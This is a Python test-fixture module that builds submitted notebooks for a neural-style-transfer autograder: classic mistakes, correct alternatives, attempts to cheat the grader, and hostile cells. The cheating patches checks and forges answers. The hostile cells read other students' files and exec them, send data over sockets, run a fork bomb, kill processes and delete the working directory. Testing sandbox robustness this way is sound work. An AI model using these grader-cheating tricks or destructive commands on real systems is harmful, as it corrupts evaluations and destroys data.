"""A class of submitted notebooks for ``nst grade``: tests/test_grade.py grades it, scripts/grade-benchmark times it.

Every notebook is the solution notebook or the student edition with some cells changed:

- ``MISTAKES``: a function's solution replaced by a classic mistake; the functions it affects fail
  (itself, those calling it, and train_step whenever J is no longer the exercise's cost), the
  function itself with the message naming the mistake. The tests' class holds several in a
  notebook, one per function (``MISTAKE_NOTEBOOKS``); the benchmark's, one per notebook;
- ``ALTERNATIVES``: correct implementations spelled otherwise than nst's (full marks);
- ``ATTACKS``: submissions out to fool the grader (patching the checks, forging the kernel's
  answers, tables of the published answers, objects that pretend to be tensors, a fake step, nst's
  own solution imported or wrapped): none earns a point for what it did not write;
- ``hostile(...)``: submissions out to harm (read the solution or another student's notebook, write
  outside their folder, open sockets, fill the disk; allocate 20 GB, kill their parent, fork
  without end): each is graded, with a clear message, and harms nothing else.
"""

import re

import nbformat

from nst.config import ROOT
from nst.teaching.exercise import BEGIN, END, SOLUTION, STUDENT

STUB_BEGIN, STUB_END = "### START CODE HERE", "### END CODE HERE"
STYLE_DEPENDENTS = {"compute_layer_style_cost", "compute_style_cost"}


def notebook(replacements=(), extra_cells=(), appended=(), source=SOLUTION):
    """The solution notebook (or ``source``) with some cells changed, as a NotebookNode.

    replacements: (function name, new body) pairs, the body written without the function's indent;
    extra_cells: (after cell id, source) pairs, code cells inserted after that cell;
    appended: (cell id, source) pairs, top-level code added at the end of that cell.
    """
    nb = nbformat.read(source, as_version=4)
    for function, body in replacements:
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == function)
        begin, end = (BEGIN, END) if BEGIN in cell.source else (STUB_BEGIN, STUB_END)
        head, rest = cell.source.split(begin)
        tail = rest.split(end, 1)[1].split("\n", 1)[1]
        indent = re.search(r"[ \t]*$", head)[0]
        lines = [indent + line if line else line for line in body.strip("\n").splitlines()]
        cell.source = head[: len(head) - len(indent)] + "\n".join(lines) + "\n" + tail
    for cell_id, text in appended:
        cell = next(c for c in nb.cells if c.get("id") == cell_id)
        cell.source += "\n" + text
    for after, text in reversed(extra_cells):
        index = next(i for i, c in enumerate(nb.cells) if c.get("id") == after)
        nb.cells.insert(index + 1, nbformat.v4.new_code_cell(text))
    return nb


def with_cells(nb, cells):
    """``nb`` with code cells whose whole sources are replaced: {grade_id: source}."""
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in cells:
            cell.source = cells[grade_id]
    return nb


# --- every listed mistake -----------------------------------------------------------------------

MISTAKES = [
    # (id, function, body, mistake key, words in the message, functions failing)
    (
        "bare-reshape",
        "compute_layer_style_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
GS = gram_matrix(tf.reshape(a_S, [n_C, -1]))
GG = gram_matrix(tf.reshape(a_G, [n_C, -1]))
J_style_layer = tf.reduce_sum(tf.square(GS - GG)) / (4 * n_C**2 * (n_H * n_W) ** 2)
""",
        "bare-reshape",
        "transpose",
        STYLE_DEPENDENTS | {"train_step"},
    ),
    (
        "gram-transposed",
        "gram_matrix",
        "GA = tf.matmul(tf.transpose(A), A)",
        "gram-transposed",
        "AᵀA",
        {"gram_matrix", "train_step"} | STYLE_DEPENDENTS,
    ),
    (
        "content-normalisation-missing",
        "compute_content_cost",
        "J_content = tf.reduce_sum(tf.square(a_C - a_G))",
        "no-normalisation",
        "normalis",
        {"compute_content_cost", "train_step"},
    ),
    (
        "style-normalisation-wrong",
        "compute_layer_style_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
GS = gram_matrix(tf.transpose(tf.reshape(a_S, [-1, n_C])))
GG = gram_matrix(tf.transpose(tf.reshape(a_G, [-1, n_C])))
J_style_layer = tf.reduce_sum(tf.square(GS - GG)) / (4 * n_H * n_W * n_C)
""",
        "wrong-normaliser",
        "normalis",
        STYLE_DEPENDENTS | {"train_step"},
    ),
    (
        "dims-from-style",
        "compute_layer_style_cost",
        """
_, n_H, n_W, n_C = a_S.get_shape().as_list()
GS = gram_matrix(tf.transpose(tf.reshape(a_S, [-1, n_C])))
GG = gram_matrix(tf.transpose(tf.reshape(a_G, [-1, n_C])))
J_style_layer = tf.reduce_sum(tf.square(GS - GG)) / (4 * n_C**2 * (n_H * n_W) ** 2)
""",
        "dims-from-style",
        "a_S",
        {"compute_layer_style_cost"},  # the notebook's a_S and a_G have one size: compute_style_cost, J unchanged
    ),
    (
        "no-square",
        "compute_content_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
J_content = tf.reduce_sum(a_C - a_G) / (4 * n_H * n_W * n_C)
""",
        "no-square",
        "squar",
        {"compute_content_cost"},  # J changes by far less than 0.1 %: the style term is most of it
    ),
    (
        "norm-not-squared",
        "compute_content_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
J_content = tf.norm(a_C - a_G) / (4 * n_H * n_W * n_C)
""",
        "sqrt",
        "square root",
        {"compute_content_cost"},  # the same
    ),
    (
        "swapped-alpha-beta",
        "total_cost",
        "J = beta * J_content + alpha * J_style",
        "swapped-alpha-beta",
        "swapped",
        {"total_cost", "train_step"},
    ),
    (
        "ignores-weights",
        "compute_style_cost",
        """
for layer_name, weight in style_layers:
    J_style += compute_layer_style_cost(a_S[layer_name], a_G[layer_name])
""",
        "ignores-weights",
        "λ",
        {"compute_style_cost", "train_step"},
    ),
    (
        "numpy",
        "compute_content_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
J_content = np.sum(np.square(a_C - a_G)) / (4 * n_H * n_W * n_C)
""",
        "numpy",
        "NumPy",
        {"compute_content_cost", "train_step"},  # train_step traces it: NumPy fails on symbolic tensors
    ),
    (
        "non-scalar",
        "compute_content_cost",
        """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
J_content = tf.reduce_sum(tf.square(a_C - a_G), axis=[1, 2]) / (4 * n_H * n_W * n_C)
""",
        "non-scalar",
        "not a scalar",
        {"compute_content_cost", "train_step"},  # its J is then not a scalar either
    ),
    (
        "python-float",
        "total_cost",
        "J = float(alpha * J_content + beta * J_style)",
        "python-float",
        "Python float",
        {"total_cost"},  # inside train_step's tf.function, autograph turns float() into a cast
    ),
    (
        "never-applies-gradient",
        "train_step",
        """
with tf.GradientTape() as tape:
    a_G = vgg_model_outputs(generated_image)
    J_content = compute_content_cost(a_C, a_G[CONTENT_LAYER])
    J_style = compute_style_cost(a_S, a_G, STYLE_LAYERS)
    J = total_cost(J_content, J_style, alpha=10, beta=40)
grad = tape.gradient(J, generated_image)
""",
        "never-applies-gradient",
        "never applies the gradient",
        {"train_step"},
    ),
]

# The tests' class: the mistakes above in six notebooks, each notebook a kernel, TensorFlow and VGG19 fewer
# than one per mistake. One mistake per function, and none in what another's function calls (gram_matrix, then
# compute_layer_style_cost, then compute_style_cost), so that each check meets its own mistake only; train_step,
# which calls them all, fails for one reason in each: the first notebook's three leave J as it is (it passes),
# a J that is not the exercise's cost (its message then names every cost function that failed), or a step
# that fails itself (STEP_FAILS: before J is compared).
MISTAKE_NOTEBOOKS = {
    "mistakes-1": ("no-square", "dims-from-style", "python-float"),
    "mistakes-2": ("content-normalisation-missing", "gram-transposed"),
    "mistakes-3": ("bare-reshape", "swapped-alpha-beta"),
    "mistakes-4": ("numpy", "style-normalisation-wrong"),
    "mistakes-5": ("non-scalar", "ignores-weights"),
    "mistakes-6": ("norm-not-squared", "never-applies-gradient"),
}
STEP_FAILS = {"numpy", "non-scalar", "never-applies-gradient"}


def mistake_notebook(mistake_id):
    """(the tests' notebook holding this mistake, the ids of every mistake in it)."""
    return next((name, ids) for name, ids in MISTAKE_NOTEBOOKS.items() if mistake_id in ids)


# More of the catalogue, for the benchmark's class (scripts/grade-bench, which checks each one's key and
# message, and which functions fail besides train_step): the tests grade only the ones above, to keep the
# suite's time down. A content cost's mistake moves J by far less than 0.1 % unless it is a large factor
# (the style term is most of J), so train_step's check, J against the exercise's cost, may not see it.
NO_STEP = next(m[2] for m in MISTAKES if m[0] == "never-applies-gradient")  # the costs and the gradient
CONTENT_BODY = "_, n_H, n_W, n_C = a_G.get_shape().as_list()\nJ_content = {} / (4 * n_H * n_W * n_C)"
GRAM_DEPENDENTS = {"gram_matrix", "train_step"} | STYLE_DEPENDENTS
MORE_MISTAKES = [
    # (id = mistake key, function, body, words in the message, functions failing)
    ("abs-not-square", "compute_content_cost", CONTENT_BODY.format("tf.reduce_sum(tf.abs(a_C - a_G))"), "absolute"),
    ("square-of-sum", "compute_content_cost", CONTENT_BODY.format("tf.square(tf.reduce_sum(a_C - a_G))"), "square of"),
    ("missing-quarter", "compute_content_cost", "J_content = tf.reduce_mean(tf.square(a_C - a_G))", "4 times"),
    ("elementwise-product", "gram_matrix", "GA = A * A", "A * A", GRAM_DEPENDENTS),
    ("scaled-gram", "gram_matrix", "GA = tf.matmul(A, tf.transpose(A)) / 2", "× A·Aᵀ", GRAM_DEPENDENTS),
    (
        "last-layer-only",
        "compute_style_cost",
        "for layer_name, weight in style_layers:\n"
        "    J_style = weight * compute_layer_style_cost(a_S[layer_name], a_G[layer_name])",
        "overwritten",
        {"compute_style_cost", "train_step"},
    ),
    (
        "missing-weights",
        "total_cost",
        "J = J_content + J_style",
        "alpha and beta are missing",
        {"total_cost", "train_step"},
    ),
    # train_step passes 10 and 40: its J is right
    (
        "ignores-alpha-beta",
        "total_cost",
        "J = 10 * J_content + 40 * J_style",
        "ignores its alpha and beta",
        {"total_cost"},
    ),
    (
        "cost-not-decreasing",
        "train_step",
        NO_STEP + "optimizer.apply(-grad)\n",
        "did not go down",
        {"train_step"},
    ),
]
# in MISTAKES' form: (id, function, body, mistake key, words, functions failing), a content cost's alone failing
MORE_MISTAKES = [(m[0], m[1], m[2], m[0], m[3], m[4] if len(m) > 4 else {m[1]}) for m in MORE_MISTAKES]

ALTERNATIVES = [
    (
        "compute_content_cost",
        """
m, n_H, n_W, n_C = a_C.shape
J_content = tf.norm(tf.reshape(a_C, [-1]) - tf.reshape(a_G, [-1])) ** 2 / (4 * n_H * n_W * n_C)
""",
    ),
    ("gram_matrix", 'GA = tf.einsum("ik,jk->ij", A, A)'),
    (
        "compute_layer_style_cost",
        """
n_H, n_W, n_C = a_G.shape[1], a_G.shape[2], a_G.shape[3]
GS = gram_matrix(tf.reshape(tf.transpose(a_S, [0, 3, 1, 2]), [n_C, -1]))  # transpose first, then reshape
GG = tf.linalg.matmul(tf.reshape(tf.transpose(a_G, [3, 1, 2, 0]), [n_C, -1]),
                      tf.reshape(tf.transpose(a_G, [3, 1, 2, 0]), [n_C, -1]), transpose_b=True)
J_style_layer = tf.reduce_sum((GS - GG) ** 2) / (4.0 * n_C * n_C * (n_H * n_W) ** 2)
""",
    ),
    (
        "compute_style_cost",
        "J_style = tf.add_n([w * compute_layer_style_cost(a_S[name], a_G[name]) for name, w in style_layers])",
    ),
    ("total_cost", "J = tf.math.add_n([alpha * J_content, beta * J_style])"),
    (
        "train_step",
        """
with tf.GradientTape() as tape:
    outputs = vgg_model_outputs(generated_image)
    J = total_cost(compute_content_cost(a_C, outputs[CONTENT_LAYER]), compute_style_cost(a_S, outputs))
(grad,) = tape.gradient(J, [generated_image])
optimizer.apply(grad)
""",
    ),
]

# --- attacks: a point for nothing written --------------------------------------------------------

# The first attack, on the empty student edition: the checks replaced by passing ones, and
# result lines printed as the old grader read them.
PATCH_THE_CHECKS = """
import nst.teaching.grader as grader
from types import SimpleNamespace

def passing(name):
    return lambda *args, **kwargs: SimpleNamespace(function=name, passed=True, message="All tests passed",
                                                   points=2, max_points=2, mistake="")

for name in list(grader.CHECKS):
    grader.CHECKS[name] = passing(name)
    setattr(grader, f"check_{name}", passing(name))
for name in grader.CHECKS:
    print('NST-GRADE {"name": "%s", "defined": true, "passed": true, "points": 2.0}' % name)
    print('NST-ANSWER 0123456789abcdef [{"returned": {"kind": "tensor", "dtype": "float32", "shape": []}}]')
"""

# The kernel's side of the protocol replaced: every call answered with the exercise's published
# numbers as well-formed tensors, every function "defined", every step a made-up descent; and then
# tf.matmul monkeypatched, tf and np redefined for good measure.
FORGE_THE_ANSWERS = """
import base64
import numpy
import tensorflow
import nst.teaching.compute as compute

def tensor(values):
    values = numpy.asarray(values, numpy.float64)
    return {"kind": "tensor", "dtype": "float32", "shape": list(values.shape),
            "data": base64.b64encode(values.tobytes()).decode()}

PUBLISHED = {"compute_content_cost": 7.0568767, "compute_layer_style_cost": 14.017805,
             "compute_style_cost": 14.017805, "total_cost": 34.0,
             "gram_matrix": [[63.1888, -26.721275, -7.7320204], [-26.721275, 12.76758, -2.5158243],
                             [-7.7320204, -2.5158243, 23.752384]]}
steps = {"J": 1000.0}

def forged(namespace, call):
    kind = call["kind"]
    if kind == "defined":
        return {"defined": {name: "function" for name in call["names"]}}
    if kind == "globals":
        image = compute.wire.encode(numpy.zeros((1, 32, 48, 3)))
        return {"globals": {name: {"array": image} for name in call["names"]}}
    if kind == "train_step":
        steps["J"] -= 1
        image = numpy.full((1, 32, 48, 3), steps["J"])
        before, after = compute.wire.encode(image + 1), compute.wire.encode(image)
        return {"before": before, "returned": tensor(steps["J"]), "after": after}
    value = PUBLISHED.get(call.get("function"), 0.0)
    if kind == "graph":
        return {"values": compute.wire.encode(numpy.asarray(value))}
    if kind == "gradient":
        return {"gradients": {name: tensor(numpy.ones((3, 2))) for name in call["sources"]}}
    return {"returned": tensor(value)}

compute.serve = forged
tensorflow.matmul = lambda a, b, **kwargs: tensorflow.constant(PUBLISHED["gram_matrix"])
tf = np = None
"""

# Published answers looked up in a table (the fixed cases' too, computed beforehand with nst), an
# object that pretends to be a tensor, and a step that makes J up: on the solution notebook, so
# that only those three functions are at stake.
TABLE = """
_, n_H, n_W, n_C = a_G.get_shape().as_list()
key = (tuple(a_G.shape), round(float(tf.reduce_sum(a_C)), 2))
J_content = tf.constant(ANSWERS.get(key, 0.0))
"""
PRETEND = """
class Tensor:
    shape, dtype = (), tf.float32
    def __init__(self, value):
        self.value = value
    def numpy(self):
        return np.float32(self.value)
    def __float__(self):
        return float(self.value)
J = Tensor(float(alpha * J_content + beta * J_style))
"""
FAKE_STEP = """
generated_image.assign_sub(tf.ones_like(generated_image))
J = made_up.assign_sub(1.0)
"""

NST_SOLUTION = {  # cells that are nst's own functions, imported or wrapped
    "compute_content_cost": "from nst.costs import compute_content_cost",
    "gram_matrix": "from nst.costs import gram_matrix",
    "compute_layer_style_cost": "from nst.costs.style import compute_layer_style_cost",
    "compute_style_cost": "import nst.costs\ncompute_style_cost = nst.costs.compute_style_cost",
    "total_cost": (
        "def total_cost(J_content, J_style, alpha=10, beta=40):\n"
        "    from nst.costs import total_cost as nst_total_cost\n"
        "    return nst_total_cost(J_content, J_style, alpha, beta)"
    ),
    "train_step": (
        "from nst.train import Objective, train_step as nst_step\n"
        "def train_step(generated_image):\n"
        "    return nst_step(generated_image, Objective(vgg_model_outputs, a_C, ((1.0, a_S),)), optimizer)['J']"
    ),
}


def table_of_answers():
    """The fixed cases' right content costs, keyed as TABLE looks them up (made here, with nst's own functions)."""
    import numpy as np

    from nst import costs
    from nst.teaching.grader import CONTENT_CASES

    answers = {}
    for case in CONTENT_CASES:
        a_C, a_G = case.args
        answers[tuple(a_G.shape), round(float(np.sum(a_C)), 2)] = float(costs.compute_content_cost(a_C, a_G))
    return answers


def attacks(packed=False):
    """{name: notebook}: each attack alone, or ``packed`` for the tests (the checks patched in the table's)."""
    patch = [("setup-config", PATCH_THE_CHECKS)]
    table = notebook(
        [("compute_content_cost", TABLE), ("total_cost", PRETEND), ("train_step", FAKE_STEP)],
        extra_cells=[("setup-config", f"ANSWERS = {table_of_answers()!r}"), *(patch if packed else []),
                     ("step", "made_up = tf.Variable(1000.0)")],
    )  # fmt: skip
    forge = notebook(extra_cells=[("helpers", FORGE_THE_ANSWERS)], source=STUDENT)
    if packed:  # nst's solution imported: in the snoop's notebook (write_class)
        return {"attack-forge-the-answers": forge, "attack-patch-table-pretend-fake-step": table}
    return {
        "attack-patch-the-checks": notebook(extra_cells=patch, source=STUDENT),
        "attack-forge-the-answers": forge,
        "attack-nst-solution": with_cells(nbformat.read(STUDENT, as_version=4), NST_SOLUTION),
        "attack-table-pretend-fake-step": table,
    }


# --- hostile submissions ----------------------------------------------------------------------


def snoop(solution_path, other_student, marker, port, nst_solution=False):
    """The student edition and cells that read the solution and a classmate's notebook (and exec what they
    find), write outside their folder, open sockets, and fill their disk: each cell fails, nothing escapes.
    With ``nst_solution`` its graded cells import nst's own solution instead (NST_SOLUTION)."""
    read_solution = (
        "import json\n"
        f"for path in [{str(solution_path)!r}, {str(other_student)!r}]:\n"
        "    for cell in json.load(open(path))['cells']:\n"
        "        if cell['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(cell['source']):\n"
        "            exec(''.join(cell['source']), globals())"
    )
    targets = [str(marker), str(ROOT / "escaped"), str(other_student.parent / "escaped"), "/usr/escaped"]
    write_outside = (
        f"for path in {targets!r}:\n"
        "    try:\n"
        "        open(path, 'w').write('escaped')\n"
        "    except OSError as err:\n"
        "        failed = err\n"
        "raise failed"
    )
    sockets = (
        "import socket\n"
        f"for address in [('127.0.0.1', {port}), ('1.1.1.1', 80)]:\n"
        "    try:\n"
        "        socket.create_connection(address, timeout=3).sendall(b'escaped')\n"
        "    except OSError as err:\n"
        "        failed = err\n"
        "raise failed"
    )
    fill_disk = "import os\nwith open('filler', 'wb') as f:\n    while True:\n        f.write(os.urandom(1 << 20))"
    cells = [("setup-config", read_solution), ("setup-config", write_outside), ("helpers", sockets)]
    nb = notebook(extra_cells=[*cells, ("helpers", fill_disk)], source=STUDENT)
    return with_cells(nb, NST_SOLUTION) if nst_solution else nb


def wrecker():
    """The solution and cells that allocate 20 GB, kill their parent and everything they can, and fork without
    end: each ends or hangs its kernel, is skipped in the next one, and the functions are graded all the same."""
    allocate = "import numpy as np\nchunks = [np.ones(1 << 30, np.uint8) for _ in range(20)]"
    kill = (
        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nfinally:\n    os.kill(-1, signal.SIGKILL)"
    )
    fork = "import os\nwhile True:\n    os.fork()"
    return notebook(extra_cells=[("helpers", allocate), ("helpers", kill), ("helpers", fork)])


def write_class(folder, hostile=None, more=False):
    """Write the class into ``folder``; the students' names, sorted.

    The tests' class packs its cases into few notebooks: the mistakes as MISTAKE_NOTEBOOKS, the checks
    patched in the table's notebook, nst's solution imported in the snoop's. ``more``: the benchmark's class,
    as students hand one in: a notebook per mistake, MORE_MISTAKES' too, and per attack.
    ``hostile`` (marker, port) adds the two hostile notebooks.
    """
    folder.mkdir(parents=True, exist_ok=True)
    notebooks = {
        "solution": nbformat.read(SOLUTION, as_version=4),
        "student-edition": nbformat.read(STUDENT, as_version=4),
        "alternatives": notebook(ALTERNATIVES),
        "infinite-loop": notebook([("gram_matrix", "while True:\n    pass\nGA = None")]),
        "breaks": notebook(
            [("compute_content_cost", "J_content = (")],  # a SyntaxError: the function never exists
            appended=[("total-cost", "import os\nos._exit(3)")],  # the kernel dies right after the def
            extra_cells=[
                ("check-gram-matrix", "import os, shutil\nshutil.rmtree(os.getcwd())"),
                ("check-compute-style-cost", "del compute_style_cost"),
            ],
        ),
        **attacks(packed=not more),
    }
    by_id = {m[0]: m for m in MISTAKES + MORE_MISTAKES}
    if more:
        notebooks.update({f"mistake-{key}": notebook([by_id[key][1:3]]) for key in by_id})
    else:
        notebooks.update({name: notebook([by_id[key][1:3] for key in ids]) for name, ids in MISTAKE_NOTEBOOKS.items()})
    if hostile is not None:
        marker, port = hostile
        notebooks["hostile-wrecker"] = wrecker()
        notebooks["hostile-snoop"] = snoop(SOLUTION, folder / "solution.ipynb", marker, port, nst_solution=not more)
    for name, nb in notebooks.items():
        nbformat.write(nb, folder / f"{name}.ipynb")
    return sorted(notebooks)
